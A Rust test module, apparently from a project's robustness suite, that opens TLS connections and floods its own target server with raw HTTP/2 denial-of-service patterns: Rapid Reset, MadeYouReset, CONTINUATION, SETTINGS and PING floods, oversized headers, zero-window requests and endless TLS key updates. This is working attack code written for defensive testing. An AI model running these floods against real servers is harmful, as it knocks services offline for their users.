//! HTTP/2 and TLS below any library: floods of frames that ask for nothing, and keys that are changed on and on. What is written
//! stands in the public record of faults of HTTP/2 servers.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use futures_util::FutureExt;
use havenlink_tests::credulous;
use rustls::ClientConfig;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::target::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xee;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Connections of one flood.
const CONNECTIONS: usize = 2;
/// One sort of frames, then the next.
const EACH: Duration = Duration::from_millis(250);
/// Whoever is not heard any more hangs up.
const UNHEARD: Duration = Duration::from_secs(1);
/// Before the next connection.
const PAUSE: Duration = Duration::from_millis(5);

/// What a connection sends, again and again.
#[derive(Clone, Copy)]
enum Sort {
    /// A call, and its end at once.
    RapidReset,
    /// A call that the node has to end for our fault.
    MadeYouReset,
    /// Headers without an end.
    Continuations,
    Settings,
    Pings,
    /// A call whose message never comes.
    EmptyData,
    Priorities,
    Unknown,
    BigHeaders,
    /// Questions whose answers nobody reads.
    ZeroWindow,
    /// New keys, and a ping, so that they are never the only thing that comes.
    KeyUpdates,
}

const FRAMES: [Sort; 10] = [
    Sort::RapidReset,
    Sort::MadeYouReset,
    Sort::Continuations,
    Sort::Settings,
    Sort::Pings,
    Sort::EmptyData,
    Sort::Priorities,
    Sort::Unknown,
    Sort::BigHeaders,
    Sort::ZeroWindow,
];

/// Each connection sends one sort after the other.
pub fn all_frames(target: &Target) {
    for first in 0..CONNECTIONS {
        let target = target.clone();
        tokio::spawn(async move {
            for turn in 0.. {
                let sort = FRAMES[(first * FRAMES.len() / CONNECTIONS + turn) % FRAMES.len()];
                // That it is cut off is what is hoped for.
                _ = pump(&target, (target.peer_port, target.as_kehl.clone()), sort, EACH).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
}

/// At the peer port, and with a key of the city's own software at `local.listen`.
pub fn key_updates(target: &Target) {
    let doors = [(target.peer_port, target.as_kehl.clone()), (target.local_port, target.as_software.clone())];
    for door in doors.into_iter().flat_map(|door| std::iter::repeat_n(door, CONNECTIONS)) {
        let target = target.clone();
        tokio::spawn(async move {
            loop {
                _ = pump(&target, door.clone(), Sort::KeyUpdates, Duration::MAX).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
}

/// Sends frames of one sort over a connection, until it is cut off or its time is over.
async fn pump(
    target: &Target,
    (door, client): (SocketAddr, Arc<ClientConfig>),
    sort: Sort,
    time: Duration,
) -> std::io::Result<()> {
    let mut tls = credulous::connect(door, client).await?;
    let (began, mut stream, mut answers) = (Instant::now(), 1, vec![0; 1 << 16]);
    let mut hello = PREFACE.to_vec();
    let window = if matches!(sort, Sort::ZeroWindow) { [0; 4] } else { [0, 0, 0xff, 0xff] };
    frame(&mut hello, SETTINGS, 0, 0, &[&[0, 4][..], &window].concat());
    tls.write_all(&hello).await?;
    let mut out = Vec::new();
    while began.elapsed() < time && stream < 1 << 30 {
        out.clear();
        if matches!(sort, Sort::KeyUpdates) {
            tls.get_mut().1.refresh_traffic_keys().map_err(std::io::Error::other)?;
        }
        fill(&mut out, sort, &mut stream);
        let sent = async {
            tls.write_all(&out).await?;
            tls.flush().await
        };
        tokio::time::timeout(UNHEARD, sent).await??;
        target.made();
        while let Some(read) = tls.read(&mut answers).now_or_never() {
            if read? == 0 {
                return Ok(());
            }
        }
    }
    Ok(())
}

/// What is sent at once: some dozens of frames.
fn fill(out: &mut Vec<u8>, sort: Sort, stream: &mut u32) {
    let call = headers("/grpc.health.v1.Health/Check", 0);
    let mut next = || std::mem::replace(stream, *stream + 2);
    match sort {
        Sort::RapidReset => (0..50).for_each(|_| {
            let id = next();
            frame(out, HEADERS, END_HEADERS, id, &call);
            frame(out, RST_STREAM, 0, id, &CANCEL);
        }),
        Sort::MadeYouReset => (0..50).for_each(|_| {
            let id = next();
            frame(out, HEADERS, END_HEADERS, id, &call);
            frame(out, WINDOW_UPDATE, 0, id, &[0; 4]);
        }),
        Sort::Continuations => {
            let id = next();
            if id == 1 {
                frame(out, HEADERS, 0, 1, &call);
            }
            (0..100).for_each(|_| frame(out, CONTINUATION, 0, 1, &[]));
            frame(out, CONTINUATION, 0, 1, &b"\x00\x01a\x01b".repeat(1_000));
        }
        Sort::Settings => (0..500).for_each(|_| frame(out, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])),
        Sort::Pings => (0..500).for_each(|_| frame(out, PING, 0, 0, b"12345678")),
        Sort::EmptyData => {
            let id = next();
            if id == 1 {
                frame(out, HEADERS, END_HEADERS, 1, &headers("/havenlink.peer.v1.ExchangeService/Deliver", 0));
            }
            (0..500).for_each(|_| frame(out, DATA, 0, 1, &[]));
        }
        Sort::Priorities => (0..500).for_each(|_| frame(out, PRIORITY, 0, next(), &[0, 0, 0, 0, 16])),
        Sort::Unknown => (0..50).for_each(|_| frame(out, UNKNOWN, 0, 0, &[b'x'; 1_000])),
        Sort::BigHeaders => {
            let large = headers("/grpc.health.v1.Health/Check", 15_000);
            (0..4).for_each(|_| frame(out, HEADERS, END_HEADERS, next(), &large));
        }
        Sort::ZeroWindow => {
            let list = headers("/havenlink.directory.v1.DirectoryService/List", 0);
            (0..8).for_each(|_| {
                let id = next();
                frame(out, HEADERS, END_HEADERS, id, &list);
                // A message of no bytes, and the end of what is asked.
                frame(out, DATA, 1, id, &[0; 5]);
            });
        }
        Sort::KeyUpdates => frame(out, PING, 0, 0, b"12345678"),
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A header block (RFC 7541, literals without an index): a call, and a header of so many bytes beside.
fn headers(path: &str, beside: usize) -> Vec<u8> {
    let mut block = Vec::new();
    let mut literal = |name: &str, value: &str| {
        block.push(0);
        for text in [name, value] {
            length(&mut block, text.len());
            block.extend_from_slice(text.as_bytes());
        }
    };
    let usual = [(":method", "POST"), (":scheme", "https"), (":authority", "fr-strasbourg"), (":path", path)];
    usual.iter().for_each(|(name, value)| literal(name, value));
    literal("content-type", "application/grpc");
    literal("te", "trailers");
    if beside > 0 {
        literal("x-beside", &"v".repeat(beside));
    }
    block
}

/// An integer with a prefix of seven bits.
fn length(block: &mut Vec<u8>, value: usize) {
    if value < 127 {
        return block.push(value as u8);
    }
    block.push(127);
    let mut rest = value - 127;
    while rest >= 128 {
        block.push((rest % 128) as u8 | 128);
        rest /= 128;
    }
    block.push(rest as u8);
}
